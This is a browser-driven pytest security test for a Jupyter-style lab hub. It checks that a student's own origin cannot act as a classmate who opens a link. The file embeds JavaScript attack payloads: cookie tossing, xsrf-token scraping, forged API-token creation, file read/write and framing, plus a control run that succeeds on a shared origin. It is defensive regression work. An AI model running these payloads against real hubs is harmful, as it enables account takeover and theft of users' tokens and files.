"""A student's origin cannot act as anyone who opens it (issue: account takeover with one link).

Every lab is served from its own origin (<user>.celerylab.localhost), the hub from its own, with
__Host- cookies. The attacker here is the strongest a student can be: their origin answers with
whatever page they like (modelled by serving the page for that origin from the test, as if the
student had replaced their own Jupyter server). A logged-in classmate opens the link. The page
tries every path the audit used and more: read the hub's xsrf token, create an API token for the
victim, read and write the victim's files, toss cookies onto the parent domain. Nothing may
succeed; the same script run on the hub's own origin (the old shared-origin layout) does
succeed, so the probe itself is known to work.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from hubclient import origin
from live import PUBLIC, compose, session, user_url
from test_browser import OWN_PASSWORDS, browser, log_in  # noqa: F401  (the Chromium fixture)

pytestmark = [pytest.mark.docker, pytest.mark.browser]

VICTIM, ATTACKER = "vera", "mal"

ATTACK = """
async ({hub, victimLab}) => {
  const loot = {cookies: document.cookie, steps: {}};
  const step = async (name, fn) => {
    try { loot.steps[name] = await fn(); } catch (e) { loot.steps[name] = 'blocked: ' + e; }
  };
  // Cookie tossing: cookies for the parent domain, which the hub would receive.
  for (const c of ['_xsrf=tossed', 'jupyterhub-session-id=tossed', '__Host-jupyterhub-hub-login=x'])
    document.cookie = c + '; domain=' + new URL(hub).hostname + '; path=/';
  await step('read hub home', async () => {
    const r = await fetch(hub + '/hub/home', {credentials: 'include'});
    return (await r.text()).match(/xsrf_token: "([^"]+)"/)?.[1] || 'no token';
  });
  const xsrf = (loot.steps['read hub home'] || '').startsWith('blocked') ? 'tossed'
             : loot.steps['read hub home'];
  await step('create token (cors)', async () => {
    const r = await fetch(hub + '/hub/api/users/' + victimLab.split('/user/')[1] + '/tokens', {
      method: 'POST', credentials: 'include',
      headers: {'Content-Type': 'application/json', 'X-XSRFToken': xsrf},
      body: JSON.stringify({note: 'stolen'})});
    return r.status + ' ' + await r.text();
  });
  await step('create token (no-cors)', async () => {
    await fetch(hub + '/hub/api/users/' + victimLab.split('/user/')[1] + '/tokens?_xsrf=' + xsrf, {
      method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({note: 'stolen'})});
    return 'sent';
  });
  await step('read victim files', async () => {
    const r = await fetch(victimLab + '/api/contents', {credentials: 'include'});
    return r.status + ' ' + (await r.text()).slice(0, 200);
  });
  await step('write victim file (no-cors)', async () => {
    await fetch(victimLab + '/api/contents?_xsrf=' + xsrf, {
      method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: {'Content-Type': 'text/plain'}, body: JSON.stringify({type: 'file', ext: '.txt'})});
    return 'sent';
  });
  await step('frame the hub', async () => {
    const f = document.createElement('iframe');
    f.src = hub + '/hub/token';
    document.body.appendChild(f);
    await new Promise(r => setTimeout(r, 1500));
    return f.contentDocument ? f.contentDocument.body.innerText.slice(0, 100) : 'no access';
  });
  return loot;
}
"""


@pytest.fixture(scope="module")
def passwords(stack):
    r = compose(
        "exec", "-T", "hub", "celerylab", "roster", "import", "-",
        input=f"username\n{VICTIM}\n{ATTACKER}\n",
    )  # fmt: skip
    yield {
        row["username"]: row["initial_password"] for row in csv.DictReader(io.StringIO(r.stdout))
    }
    stack.stop(VICTIM)


def logged_in_victim(browser, password):  # noqa: F811
    page = log_in(browser, VICTIM, password)
    page.wait_for_url(f"**/user/{VICTIM}/lab**")
    return page.context, page


def run_attack_from(context, origin_url: str) -> dict:
    """Serve the attacker's page at origin_url, open it as the victim, return what it got."""
    page = context.new_page()
    page.route(origin_url, lambda route: route.fulfill(body="<html><body>hi</body></html>"))
    page.goto(origin_url)
    loot = page.evaluate(ATTACK, {"hub": PUBLIC, "victimLab": user_url(VICTIM)})
    page.close()
    return loot


def token_notes(stack) -> list[str]:
    return [t.get("note") for t in stack.api("GET", f"/users/{VICTIM}/tokens").json()["api_tokens"]]


def victim_state(stack) -> tuple[list[str], str]:
    tokens = stack.api("GET", f"/users/{VICTIM}/tokens").json()["api_tokens"]
    lab = stack.lab(VICTIM)
    files = lab.get("api/contents").json()["content"]
    return [t.get("note") for t in tokens], json.dumps(sorted(f["name"] for f in files))


def test_a_classmates_page_cannot_act_as_the_student_who_opens_it(stack, browser, passwords):  # noqa: F811
    context, _ = logged_in_victim(browser, passwords[VICTIM])
    notes_before, files_before = victim_state(stack)

    loot = run_attack_from(context, f"{user_url(ATTACKER)}/evil")

    notes_after, files_after = victim_state(stack)
    assert "stolen" not in notes_after, loot
    assert files_after == files_before, loot
    assert "jupyterhub" not in loot["cookies"], loot  # the hub's cookies are not readable
    assert loot["steps"]["read hub home"].startswith("blocked"), loot
    assert loot["steps"]["read victim files"].startswith("blocked"), loot
    assert loot["steps"]["frame the hub"] in ("no access",) or loot["steps"][
        "frame the hub"
    ].startswith("blocked"), loot
    # The victim is still logged in and unharmed: the tossed cookies did not break the hub.
    page = context.new_page()
    page.goto(f"{PUBLIC}/hub/home")
    assert page.url.startswith(f"{PUBLIC}/hub/home"), page.url
    context.close()
    assert notes_before == [n for n in notes_after if n != "stolen"]


def test_the_probe_works_where_the_origin_is_shared(stack, browser, passwords):  # noqa: F811
    """Control: the same page on the hub's own origin steals a token, so the probe is real."""
    context, _ = logged_in_victim(browser, passwords[VICTIM])
    loot = run_attack_from(context, f"{PUBLIC}/hub/evil-control")
    context.close()
    notes, _ = victim_state(stack)
    assert "stolen" in notes, loot
    for token in stack.api("GET", f"/users/{VICTIM}/tokens").json()["api_tokens"]:
        if token.get("note") == "stolen":
            stack.api("DELETE", f"/users/{VICTIM}/tokens/{token['id']}")


def test_the_hub_serves_its_pages_only_on_its_own_origin(stack, browser, passwords):  # noqa: F811
    """The hub is the proxy's default route for every host. A link to the hub's login on a
    student's origin must not give the victim a hub session there, where the student's own
    pages could use it (tried live before the fix: a token was created)."""
    attacker = origin(PUBLIC, ATTACKER)
    http = session()
    r = http.get(f"{attacker}/hub/login?next=/hub/home", allow_redirects=False, timeout=30)
    assert r.status_code == 302, r.text[:200]
    assert r.headers["location"] == f"{PUBLIC}/hub/login?next=/hub/home"
    r = http.post(f"{attacker}/hub/login", data={"username": VICTIM}, timeout=30)
    assert r.status_code == 403, r.text[:200]
    assert not any("jupyterhub" in name for name in r.cookies), r.cookies

    # The victim follows the link and logs in: on the hub's origin, never the attacker's.
    log_in(browser, VICTIM, passwords[VICTIM]).context.close()  # their own password is set
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(90_000)
    page.goto(f"{attacker}/hub/home")
    assert page.url.startswith(f"{PUBLIC}/hub/login"), page.url
    page.fill("input[name=username]", VICTIM)
    page.fill("input[name=password]", OWN_PASSWORDS[VICTIM])
    page.click("input[type=submit], button[type=submit]")
    page.wait_for_url(f"{PUBLIC}/hub/home**")  # logged in, on the hub's origin
    notes_before = token_notes(stack)
    # The attacker's page, same-origin requests included.
    evil = context.new_page()
    evil.route(f"{attacker}/evil", lambda route: route.fulfill(body="<html><body>hi</body></html>"))
    evil.goto(f"{attacker}/evil")
    got = evil.evaluate(
        """async (victim) => {
          const out = {};
          try {
            const home = await (await fetch('/hub/home')).text();
            out.home = home.match(/xsrf_token: "([^"]+)"/)?.[1] || 'no token';
          } catch (e) { out.home = 'blocked: ' + e; }
          const r = await fetch('/hub/api/users/' + victim + '/tokens', {method: 'POST',
            headers: {'Content-Type': 'application/json', 'X-XSRFToken': out.home},
            body: JSON.stringify({note: 'stolen'})});
          out.token = r.status;
          return out;
        }""",
        VICTIM,
    )
    context.close()
    notes_after = token_notes(stack)
    assert "stolen" not in notes_after, got
    assert notes_after == notes_before, got
    assert got["token"] == 403, got
    assert got["home"] == "no token" or got["home"].startswith("blocked"), got
